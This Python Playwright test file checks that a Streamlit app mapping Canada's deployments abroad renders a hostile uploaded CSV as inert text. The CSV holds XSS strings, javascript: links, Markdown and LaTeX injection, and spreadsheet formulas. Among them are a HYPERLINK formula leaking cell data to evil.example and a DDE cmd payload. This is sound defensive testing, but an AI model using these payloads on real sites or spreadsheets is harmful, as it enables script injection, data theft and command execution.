"""A hostile upload stays inert text on every page (Debian's chromium through Playwright, network unplugged).

One browser session uploads a CSV whose free-text cells (operation, mission, location,
description, source_title, source_url as far as the validator lets it through) carry HTML,
`javascript:` links, Markdown, LaTeX and spreadsheet formulas, and whose rejected rows carry
the same in the columns with closed vocabularies (organization, area, id, kind). It then walks
every page in that session - map (marker tooltips, marker and country clicks, downloads, the
standalone HTML map), operations, commitments, country, data & sources - and checks that:

- nothing ran: `window.__pwned` stays undefined in the app and in every iframe (the map's),
  no dialog opened, no element, inline handler, `javascript:` link, image or Markdown
  formatting was made from the data, and no request left for evil.example;
- the hostile text is shown literally (panels, tooltips, chart marks, table cells);
- CSV downloads prefix a quote to cells a spreadsheet would run as a formula.

st.dataframe draws its cells on a canvas; what is read here is the accessible table that
glide-data-grid keeps beside it (`[role=gridcell]`, only the cells scrolled into view).
"""

from __future__ import annotations

import csv
import io
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote

import pytest

from canada_abroad.safe_text import WORD_JOINER
from canada_abroad.schema import COLUMN_NAMES
from tests import test_browser as shared
from tests.browser_support import cut_off_internet, wait_until_idle
from tests.browser_support import map_frame as browser_map_frame
from tests.conftest import csv_text, row

expect = shared.expect
pytestmark = pytest.mark.browser

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
SVG = '"><svg onload=window.__pwned=1>'

HTML_ROW = row(
    id="hostile-html-bra", operation=SCRIPT, mission=IMG, iso3="BRA", location=SVG, lat="-14.4", lon="-49.7",
    description='<iframe src="javascript:alert(1)"></iframe> [x](javascript:alert(1)) **bold**',
    source_title='<a href="javascript:alert(1)">t</a>',
    source_url="https://example.org/p?q=)](javascript:alert(1))",
)
FORMULA_ROW = row(
    id="hostile-formula-bra", kind="commitment", operation='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    mission="+1", iso3="BRA", location="-1", lat="-10", lon="-55", personnel="", personnel_basis="",
    amount_cad="1000000", amount_status="committed", description="@SUM(1)", source_title="=1+1",
)
MARKDOWN_ROW = row(
    id="hostile-markdown-sea", operation="**bold** _it_ $\\frac{1}{2}$ :red[red] :material/warning:",
    mission="[click](javascript:alert(1)) ![beacon](https://evil.example/beacon.png)", iso3="", area="Caribbean Sea",
    location="<b>bold</b> &lt;i&gt;entity&lt;/i&gt; \\*escaped\\*", lat="15", lon="-75",
    description="$x^2$ ~~strike~~ <u>u</u>", source_title="**bold** [x](javascript:window.__pwned=1)",
    source_url="https://example.org/wiki/Operation_(Canada)",
)
KEPT = [HTML_ROW, FORMULA_ROW, MARKDOWN_ROW]
REJECTED = [  # file lines 5 to 9; each one's value is echoed in its problem's message, except the URL's
    row(id="rejected-org", organization=SCRIPT),
    row(id="rejected-area", iso3="", area=IMG),
    row(id='=HYPERLINK("http://evil.example","x")'),
    row(id="rejected-kind", kind="@SUM(1)"),
    row(id="rejected-url", source_url="javascript:alert(1)"),
]
EXTRA_COLUMNS = ["=cmd|' /c calc'!a0", SVG]
UPLOAD_NAME = "**up** <img src=x onerror=alert(1)> [x](javascript:alert(1)).csv"
UPLOAD = csv_text(KEPT + REJECTED, columns=[*COLUMN_NAMES, *EXTRA_COLUMNS]).encode("utf-8")
EXPECTED_PROBLEMS = [  # (line, column, the start of the message)
    ("1", ", ".join(EXTRA_COLUMNS), "unknown column ignored"),
    ("5", "organization", f"{SCRIPT!r} is not allowed"),
    ("6", "area", f"{IMG!r} is not a known sea area"),
    ("7", "id", f"{REJECTED[2]['id']!r} is not a valid id"),
    ("8", "kind", "'@SUM(1)' is not allowed"),
    ("9", "source_url", "must be a web address starting with http:// or https://"),
]
FREE_TEXT = ("operation", "mission", "area", "location", "description", "source_title", "source_url")
FORMULA_START = ("=", "+", "-", "@")

SCRIPT_BAR = "[data-testid='stVegaLiteChart'] path[role='graphics-symbol'][aria-label*='window.__pwned=1</script>']"
MAP_IFRAME = "iframe[src*='streamlit_folium.st_folium']"
ROW_HEIGHT = 35  # st.dataframe's default row and header height, in CSS pixels

# Saving from st.dataframe's toolbar uses the File System Access API, which headless chromium cannot
# answer; this stand-in keeps what the grid writes in window.__gridExports.
SAVE_PICKER_STUB = """window.showSaveFilePicker = async () => ({createWritable: async () => {
    const parts = []; const decoder = new TextDecoder();
    return {write: async (chunk) => { parts.push(typeof chunk === 'string' ? chunk : decoder.decode(chunk)); },
            close: async () => { window.__gridExports = [...(window.__gridExports || []), parts.join('')]; }};
}});"""

# Everything the payloads would leave behind if any of them were interpreted, in one document.
INJECTED = r"""() => {
    const found = [];
    if (typeof window.__pwned !== 'undefined') found.push('window.__pwned = ' + window.__pwned);
    const urlAttributes = ['href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'data', 'poster', 'xlink:href'];
    for (const el of document.querySelectorAll('*')) {
        for (const a of el.attributes) {
            const isUrl = urlAttributes.includes(a.name.toLowerCase());
            if (/^on/i.test(a.name) || (isUrl && /^\s*javascript:|evil\.example/i.test(a.value))) {
                found.push(`<${el.tagName} ${a.name}="${a.value}">`);
            }
        }
    }
    for (const el of document.querySelectorAll('img')) {
        if ((el.getAttribute('src') || '').trim() === 'x') found.push('<img src=x>');
    }
    for (const el of document.querySelectorAll('script')) {
        if (/__pwned|alert\(/.test(el.textContent) && el.textContent.trim().length < 60) {
            found.push('<script>' + el.textContent);
        }
    }
    for (const el of document.querySelectorAll('a[href]')) {
        if (el.protocol === 'javascript:') found.push('<a href=' + el.href + '>');
    }
    const formatted = ['bold', 'it', 'u', 'strike', 'entity', 'escaped', 'red', 'click', 'x', 't', 'up', 'beacon'];
    for (const el of document.querySelectorAll('strong, b, em, i, u, del, s, a, img')) {
        const text = (el.textContent || el.getAttribute('alt') || '').trim();
        if (formatted.includes(text)) found.push(`<${el.tagName}>${text}`);
    }
    if (document.querySelector('.katex, math')) found.push('LaTeX was typeset');
    return found;
}"""


@pytest.fixture(scope="module")
def session(app_url, browser):
    """One reader's session, offline, with the hostile file uploaded on the Data & sources page."""
    context = browser.new_context(viewport={"width": 1400, "height": 950}, accept_downloads=True)
    outside = cut_off_internet(context)
    dialogs: list[str] = []
    context.add_init_script(SAVE_PICKER_STUB)
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # Start at / (a first visit to /data on a fresh server shows a "Page not found" notice first).
    page.goto(app_url + "/")
    page.get_by_role("heading", name="Where Canada is engaged").wait_for(timeout=60_000)
    go_to(page, "Data & sources", "Data & sources")
    page.locator("[data-testid='stFileUploader'] input[type=file]").set_input_files(
        {"name": UPLOAD_NAME, "mimeType": "text/csv", "buffer": UPLOAD})
    page.get_by_role("button", name="Use this file").click()
    page.get_by_text(f"{len(KEPT)} of {len(KEPT) + len(REJECTED)} rows kept").wait_for(timeout=60_000)
    yield SimpleNamespace(page=page, dialogs=dialogs, outside=outside)
    context.close()


def go_to(page, link: str, heading: str) -> None:
    """Follow a sidebar link (the session, and so the upload, is kept) and wait for the page's title."""
    nav_link = page.locator("[data-testid='stSidebarNav']").get_by_role("link", name=link, exact=True)
    if nav_link.get_attribute("aria-current") != "page":  # following the current page's link reruns it
        nav_link.click()
    page.get_by_role("heading", name=heading, exact=True).wait_for(timeout=60_000)


def main(page):
    return page.locator("[data-testid='stMain']")


def assert_inert(session, page=None) -> None:
    page = page or session.page
    for frame in page.frames:
        assert frame.evaluate(INJECTED) == [], f"something from the data came alive in {frame.url}"
    assert session.dialogs == [], "a dialog opened"
    assert session.outside == [], "the page asked the internet for something"


def grid_cells(grid) -> list[str]:
    """The cells of an st.dataframe that glide-data-grid exposes to assistive technology."""
    grid.scroll_into_view_if_needed()
    grid.locator("[role=gridcell]").first.wait_for(state="attached", timeout=30_000)
    return grid.locator("[role=gridcell]").all_text_contents()


def download(page, button: str) -> bytes:
    wait_until_idle(page)
    with page.expect_download(timeout=30_000) as info:
        main(page).get_by_role("button", name=button).click()
    return Path(info.value.path()).read_bytes()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_live_formula(records: list[list[str]]) -> None:
    for record in records:
        for cell in record:
            assert not cell.startswith(FORMULA_START) or is_number(cell), f"live formula in a download: {cell!r}"


def assert_neutralised_rows(data: bytes, expected_ids: set[str]) -> None:
    """A download of engagement rows: every free-text cell as uploaded, formulas behind a quote."""
    text = data.decode("utf-8-sig")
    assert_no_live_formula(list(csv.reader(io.StringIO(text))))
    by_id = {record["id"]: record for record in csv.DictReader(io.StringIO(text))}
    assert set(by_id) == expected_ids
    for original in KEPT:
        if original["id"] not in by_id:
            continue
        for name in FREE_TEXT:
            value = original[name]
            assert by_id[original["id"]][name] == ("'" + value if value.startswith(FORMULA_START) else value), name


def marker_label(original: dict, place: str) -> str:
    """The marker tooltip's text for a row, as the reader must see it."""
    return (f"{original['operation']} ({original['mission']}) - {original['location'] or place}, "
            f"{original['start_date']}-{original['end_date'] or 'ongoing'}")


LABELS = {HTML_ROW["id"]: marker_label(HTML_ROW, "Brazil"), FORMULA_ROW["id"]: marker_label(FORMULA_ROW, "Brazil"),
          MARKDOWN_ROW["id"]: marker_label(MARKDOWN_ROW, "Caribbean Sea")}


def map_point(frame, map_handle, js_latlng: str) -> tuple[float, float]:
    """Page coordinates of a point of the map, from a JS expression giving a LatLng in the map's window."""
    x, y = frame.evaluate(f"""() => {{ const p = window.map.latLngToContainerPoint({js_latlng});
        const r = document.getElementById('map_div').getBoundingClientRect(); return [r.left + p.x, r.top + p.y]; }}""")
    box = map_handle.bounding_box()
    return box["x"] + x, box["y"] + y


def marker_latlng(row_id: str, map_variable: str = "window.map") -> str:
    return f"""(() => {{ let found = null; {map_variable}.eachLayer(l => {{
        if (!found && l.feature && l.feature.properties.id === {row_id!r} && l.getLatLng) {{ found = l; }} }});
        return found.getLatLng(); }})()"""


def hover_marker_and_read_tooltip(page, frame, map_handle, row_id: str) -> None:
    map_handle.scroll_into_view_if_needed()  # a point below the fold cannot be hovered
    page.mouse.move(*map_point(frame, map_handle, marker_latlng(row_id)))
    tooltip = frame.locator(".leaflet-tooltip").filter(has_text=LABELS[row_id][:30])
    expect(tooltip).to_have_count(1, timeout=10_000)
    assert " ".join(tooltip.inner_text().split()) == " ".join(LABELS[row_id].split())
    assert tooltip.locator("script, img, svg, iframe, a, b, strong, u").count() == 0
    page.mouse.move(5, 5)


def click_marker(page, row_id: str) -> None:
    # The last click's run first ends: the panel is written before the map, so its heading shows while the
    # map's new markers are still on their way, and a marker replaced under the mouse takes no click.
    wait_until_idle(page)
    frame, handle = map_frame(page)
    handle.scroll_into_view_if_needed()  # a click on a frame partly below the fold scrolls first and lands off
    page.mouse.click(*map_point(frame, handle, marker_latlng(row_id)))


def map_frame(page):
    """The streamlit-folium iframe as a Frame, once the three hostile markers are on the map."""
    browser_map_frame(page)
    handle = page.locator(MAP_IFRAME)
    frame = handle.element_handle().content_frame()
    frame.wait_for_function("""(ids) => { const seen = new Set(); if (!window.map) return false;
        window.map.eachLayer(l => { const id = l.feature && l.feature.properties.id; if (ids.includes(id)) seen.add(id); });
        return seen.size === ids.length; }""", arg=list(LABELS), timeout=60_000)
    return frame, handle


def expect_shown(page, texts: list[str]) -> None:
    """Wait until the main area shows every text literally (Markdown escaping adds only invisible word joiners)."""
    script = """(texts) => { const main = document.querySelector("[data-testid='stMain']");
        const shown = main ? main.innerText.replaceAll('\\u2060', '') : ''; return texts.every(t => shown.includes(t)); }"""
    try:
        page.wait_for_function(script, arg=texts, timeout=30_000)
    except shared.playwright_sync.TimeoutError:
        shown = main(page).inner_text().replace(WORD_JOINER, "")
        raise AssertionError(f"not shown as text: {[t for t in texts if t not in shown]}") from None


def expect_heading(page, text: str) -> None:
    page.wait_for_function("""(text) => Array.from(document.querySelectorAll(
        "[data-testid='stMain'] h1, [data-testid='stMain'] h2, [data-testid='stMain'] h3"))
        .some(h => h.textContent.replaceAll('\\u2060', '').trim() === text)""", arg=text, timeout=30_000)


def link_href(page, text: str) -> str:
    """The address of the link in the main area whose text is exactly `text`."""
    return page.wait_for_function("""(text) => { const link = Array.from(document.querySelectorAll(
        "[data-testid='stMain'] a")).find(a => a.textContent.replaceAll('\\u2060', '').trim() === text);
        return link ? link.getAttribute('href') : null; }""", arg=text, timeout=30_000).json_value()


def assert_card_texts(page, original: dict, place: str | None = None) -> None:
    """An engagement card in a panel shows every hostile field as it was written."""
    title = f"{original['operation']} — {place}" if place else original["operation"]
    expect_shown(page, [title, f"{original['mission']} · NATO", f"Location: {original['location']}",
                        original["description"], f"Source: {original['source_title']} · verified"])
    assert unquote(link_href(page, original["source_title"])) == original["source_url"]


def test_data_page_reports_rejected_hostile_values_as_text(session):
    page = session.page
    go_to(page, "Data & sources", "Data & sources")
    expect_shown(page, [f"Showing your uploaded file ({UPLOAD_NAME})"])
    grids = main(page).locator("[data-testid='stDataFrame']")
    report = grid_cells(grids.nth(0))
    for line, column, message in EXPECTED_PROBLEMS:
        at = report.index(line)
        assert report[at + 1] == column and report[at + 3].startswith(message), (line, report[at:at + 4])
    sources = grid_cells(grids.nth(1))
    for original in KEPT:
        assert original["source_title"] in sources and original["source_url"] in sources

    records = list(csv.reader(io.StringIO(download(page, "Download the validation report (CSV)").decode("utf-8-sig"))))
    assert records[0] == ["line", "column", "severity", "message"]
    assert_no_live_formula(records)
    got = {(r[0], r[1]): r[3] for r in records[1:]}
    for line, column, message in EXPECTED_PROBLEMS:
        column = "'" + column if column.startswith(FORMULA_START) else column
        assert got[(line, column)].startswith(message), (line, column)
    assert_neutralised_rows(download(page, "Download the whole dataset (CSV)"), {r["id"] for r in KEPT})
    assert_inert(session)


def test_map_tooltips_panels_and_downloads_keep_hostile_text_inert(session):
    page = session.page
    go_to(page, "Map", "Canada's deployments and commitments abroad")
    frame, handle = map_frame(page)
    for row_id in LABELS:
        hover_marker_and_read_tooltip(page, frame, handle, row_id)
    assert frame.evaluate(INJECTED) == [], "something from the data came alive in the map's iframe"
    assert_inert(session)

    # Markers first: a selected country is brought to the front and would cover the marker inside it.
    click_marker(page, HTML_ROW["id"])
    expect_heading(page, SCRIPT)
    expect_shown(page, ["1 engagement in 1 place: Brazil"])
    assert_card_texts(page, HTML_ROW, "Brazil")
    click_marker(page, MARKDOWN_ROW["id"])
    expect_heading(page, MARKDOWN_ROW["operation"])
    assert_card_texts(page, MARKDOWN_ROW, "Caribbean Sea")
    frame, handle = map_frame(page)
    page.mouse.click(*map_point(frame, handle, "L.latLng(-5, -62)"))  # Brazil, away from its markers
    expect_heading(page, "Brazil")
    assert_card_texts(page, HTML_ROW)
    assert_card_texts(page, FORMULA_ROW)
    assert map_frame(page)[0].evaluate(INJECTED) == [], "something from the data came alive in the map's iframe"
    assert_inert(session)

    assert_neutralised_rows(download(page, "Download filtered rows (CSV)"), {r["id"] for r in KEPT})
    with open_standalone_map(session) as html_page:
        assert_inert(session, html_page)


@contextmanager
def open_standalone_map(session):
    """The map page's "Download this map (HTML)" file, opened in a new tab of the session's browser."""
    page = session.page
    go_to(page, "Map", "Canada's deployments and commitments abroad")
    standalone = download(page, "Download this map (HTML)").decode("utf-8")
    html_page = page.context.new_page()
    html_page.errors = []
    html_page.on("pageerror", lambda error: html_page.errors.append(str(error)))
    html_page.on("dialog", lambda dialog: (session.dialogs.append(dialog.message), dialog.dismiss()))
    try:
        html_page.set_content(standalone)
        yield html_page
    finally:
        html_page.close()


def test_standalone_map_file_shows_marker_labels_as_text(session):
    with open_standalone_map(session) as html_page:
        assert html_page.errors == []
        map_variable = html_page.evaluate("() => Object.keys(window).find(k => /^map_[0-9a-f]+$/.test(k))")
        # The sea row's marker: a selected country is drawn on top of the markers inside it.
        html_page.mouse.move(*html_page.evaluate(f"""() => {{ const m = window.{map_variable};
            const p = m.latLngToContainerPoint({marker_latlng(MARKDOWN_ROW['id'], 'm')});
            const r = m.getContainer().getBoundingClientRect(); return [r.left + p.x, r.top + p.y]; }}"""))
        expect(html_page.locator(".leaflet-tooltip")).to_have_text(LABELS[MARKDOWN_ROW["id"]], timeout=10_000)
        assert html_page.locator(".leaflet-tooltip").locator("script, img, svg, iframe, a").count() == 0
        assert_inert(session, html_page)


def expect_chart_tooltip_as_text(page, *texts: str) -> None:
    """Hover the hostile row's chart bar: its tooltip shows the texts literally and holds no element made of them."""
    bar = main(page).locator(SCRIPT_BAR)
    expect(bar).to_have_count(1, timeout=30_000)
    bar.scroll_into_view_if_needed()
    bar.hover()
    tooltip = page.locator("#vg-tooltip-element")
    for text in texts:
        expect(tooltip).to_contain_text(text, timeout=10_000)
    assert tooltip.locator("script, img, svg, iframe").count() == 0


def test_operations_page_shows_hostile_text_in_table_panel_and_timeline(session):
    page = session.page
    go_to(page, "Operations", "Operations")
    grid = main(page).locator("[data-testid='stDataFrame']").first
    cells = grid_cells(grid)
    for original in KEPT:
        assert original["operation"] in cells and original["mission"] in cells
    # Select the <script> operation: click its row's selection box on the canvas.
    row_index = int(grid.locator("tr[aria-rowindex]").evaluate_all(
        "(rows, text) => rows.find(r => r.cells[0] && r.cells[0].textContent === text).getAttribute('aria-rowindex')",
        SCRIPT))
    canvas = grid.locator("canvas[data-testid='data-grid-canvas']").bounding_box()
    page.mouse.click(canvas["x"] + 18, canvas["y"] + ROW_HEIGHT * (row_index - 1) + ROW_HEIGHT / 2)
    expect_heading(page, SCRIPT)
    assert_card_texts(page, HTML_ROW, "Brazil")
    operations_csv = list(csv.reader(io.StringIO(download(page, "Download these operations (CSV)").decode("utf-8-sig"))))
    assert_no_live_formula(operations_csv)
    assert SCRIPT in {cell for record in operations_csv for cell in record}

    expect_chart_tooltip_as_text(page, SCRIPT)
    assert_inert(session)


def test_commitments_page_shows_formulas_as_text_and_neutralises_its_download(session):
    page = session.page
    go_to(page, "Commitments", "Commitments")
    cells = grid_cells(main(page).locator("[data-testid='stDataFrame']").last)  # the chart's table is first
    assert FORMULA_ROW["operation"] in cells and FORMULA_ROW["mission"] in cells
    assert_neutralised_rows(download(page, "Download these commitments (CSV)"), {FORMULA_ROW["id"]})
    assert_inert(session)


def test_country_page_shows_hostile_text_in_table_and_chart(session):
    page = session.page
    go_to(page, "Country", "Country profile")
    main(page).locator("[data-testid='stSelectbox']").click()
    page.get_by_role("option", name="Brazil", exact=True).click()
    expect_heading(page, "Brazil")
    cells = grid_cells(main(page).locator("[data-testid='stDataFrame']").first)
    for original in (HTML_ROW, FORMULA_ROW):
        assert original["operation"] in cells and original["mission"] in cells
    assert_neutralised_rows(download(page, "Download 2 rows (CSV)"), {HTML_ROW["id"], FORMULA_ROW["id"]})

    expect_chart_tooltip_as_text(page, SCRIPT, IMG)
    assert_inert(session)


def test_tables_offer_no_export_of_their_own(session):
    """st.dataframe's own "Download as CSV" writes cells unchanged, so it is switched off
    (client.disableDataExport); every page has a download that neutralises formulas instead."""
    page = session.page
    go_to(page, "Commitments", "Commitments")
    grid = main(page).locator("[data-testid='stDataFrame']").last  # the chart's table, folded, is first
    grid_cells(grid)
    grid.hover()
    toolbar = grid.locator("[data-testid='stElementToolbar']")
    expect(toolbar.get_by_role("button").first).to_be_visible(timeout=10_000)
    assert grid.get_by_role("button", name="Download as CSV").count() == 0
